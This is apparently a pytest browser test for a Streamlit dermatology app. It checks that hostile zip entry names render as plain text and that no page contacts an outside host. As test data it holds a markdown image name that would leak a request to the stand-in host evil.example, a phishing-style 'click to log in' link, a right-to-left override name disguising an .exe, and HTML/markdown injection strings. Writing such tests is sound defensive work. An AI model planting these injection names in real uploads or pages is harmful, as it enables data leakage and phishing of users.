"""In real Chromium: hostile names are shown as text, and no page makes a request to another host.

Reproduced bugs: a zip entry named ``![t](https:evil.example?leak=1).jpg`` became an ``<img>`` on Compare and
the browser fetched the outside URL; a name became a live link on Batch; every page load fetched the favicon
(``page_icon=":material/..."``) from fonts.gstatic.com. Here every request of every page is recorded.
Reuses the server and browser fixtures of ``test_browser.py`` (Debian's Chromium, never a downloaded one).
"""

from __future__ import annotations

import io
import zipfile
from urllib.parse import urlsplit

import pytest
from test_browser import (  # noqa: F401 - page and server are fixtures, used by name
    CHROMIUM,
    HAM,
    RESULT_TIMEOUT_MS,
    page,
    server,
    wait_idle,
)

from dermascan.render.text import WORD_JOINER, display_text

IMAGE_NAME = "![t](https:evil.example?leak=1).jpg"
LINK_NAME = "[Session expired - click to log in](http:evil.example).jpg"
BIDI_NAME = "invoice\u202egnp.exe.jpg"
MIXED_NAME = "**bold** :red[x] :small[y] $x$ <img src=x> www.evil.example.jpg"  # no "/": zip names are base names
PAGES = ["Batch", "Compare preprocessing", "Review log", "Model", "Analyze"]

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.is_file(), reason="/usr/bin/chromium is not installed"),
    pytest.mark.skipif(not HAM.is_dir(), reason="../shared/data/ham10000_224 is not present"),
]

# Every <img> and <a> whose address leaves the page's own server (data: and blob: URLs stay in the page).
OUTSIDE_ELEMENTS = """(origin) => [...document.querySelectorAll('img[src], a[href], link[href], source[src]')]
    .map(e => e.src || e.href)
    .filter(u => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'))"""


def names_zip(images) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(IMAGE_NAME, b"\xff\xd8 not a jpeg")  # first: Compare shows its error with the name
        for name, path in zip((LINK_NAME, BIDI_NAME, MIXED_NAME), images):
            archive.writestr(name, path.read_bytes())
    return buffer.getvalue()


def shown(text: str) -> str:
    return text.replace(WORD_JOINER, "")


def test_hostile_names_stay_text_and_nothing_leaves_the_local_server(server, page, tmp_path):  # noqa: F811
    url, _ = server
    origin = f"{urlsplit(url).scheme}://{urlsplit(url).netloc}"
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    archive = tmp_path / "names.zip"
    archive.write_bytes(names_zip(sorted((HAM / "images").glob("ISIC_*.jpg"))[:3]))

    page.goto(url, wait_until="domcontentloaded")
    page.get_by_role("heading", name="Analyze a lesion").wait_for(timeout=RESULT_TIMEOUT_MS)
    nav = page.locator('[data-testid="stSidebarNav"]')
    for title in PAGES:  # every page loads once: its icons, fonts and favicon
        nav.get_by_text(title, exact=True).click()
        wait_idle(page)
    favicon = page.locator("link[rel='shortcut icon']").get_attribute("href")
    assert favicon.startswith("data:image/svg+xml"), favicon  # the emoji, drawn in the page

    nav.get_by_text("Compare preprocessing", exact=True).click()
    page.get_by_role("heading", name="Compare preprocessing").wait_for(timeout=RESULT_TIMEOUT_MS)
    page.locator('[data-testid="stFileUploader"]').first.locator('input[type="file"]').set_input_files(str(archive))
    error = page.locator('[data-testid="stAlertContentError"]').filter(has_text="cannot be analysed")
    error.wait_for(timeout=RESULT_TIMEOUT_MS)
    wait_idle(page)
    body = error.locator('[data-testid="stMarkdownContainer"]')  # the alert's text, without its icon
    assert shown(body.inner_text()).startswith(f"{IMAGE_NAME} cannot be analysed")  # the characters, no <img>
    assert error.locator("img, a").count() == 0
    assert page.evaluate(OUTSIDE_ELEMENTS, origin) == []

    nav.get_by_text("Batch", exact=True).click()
    page.get_by_role("heading", name="Batch worklist").wait_for(timeout=RESULT_TIMEOUT_MS)
    page.locator('[data-testid="stFileUploader"]').first.locator('input[type="file"]').set_input_files(str(archive))
    page.get_by_role("button", name="Analyse 4 image(s)").click()
    page.get_by_role("button", name="Download table (CSV)").wait_for(timeout=RESULT_TIMEOUT_MS)
    wait_idle(page)
    page.wait_for_timeout(1000)  # the grid paints on a canvas after the rerun ends
    grid = page.locator('[data-testid="stDataFrame"]').last.bounding_box()
    page.mouse.click(grid["x"] + 15, grid["y"] + 35 + 35)  # select the first row: its heading names the file
    heading = page.locator('[data-testid="stMarkdownContainer"]').filter(has_text="malignancy").last
    heading.wait_for(timeout=60_000)
    wait_idle(page)
    page.screenshot(path=str(tmp_path / "names.png"), full_page=True)
    name = shown(heading.inner_text()).split(" · ")[0]
    assert name in {LINK_NAME, display_text(BIDI_NAME), MIXED_NAME}, name
    assert heading.locator("a, img, em, code, .katex").count() == 0
    assert heading.locator("strong").inner_text() == heading.inner_text().split(" · ")[0]  # only our own bold
    assert page.evaluate(OUTSIDE_ELEMENTS, origin) == []
    assert not page.locator('[data-testid="stException"]').count()

    outside = sorted({u for u in requests if not u.startswith((origin, "data:", "blob:"))})
    assert outside == []
    assert any("MaterialSymbols" in u for u in requests)  # the page and nav icons: Streamlit's bundled font
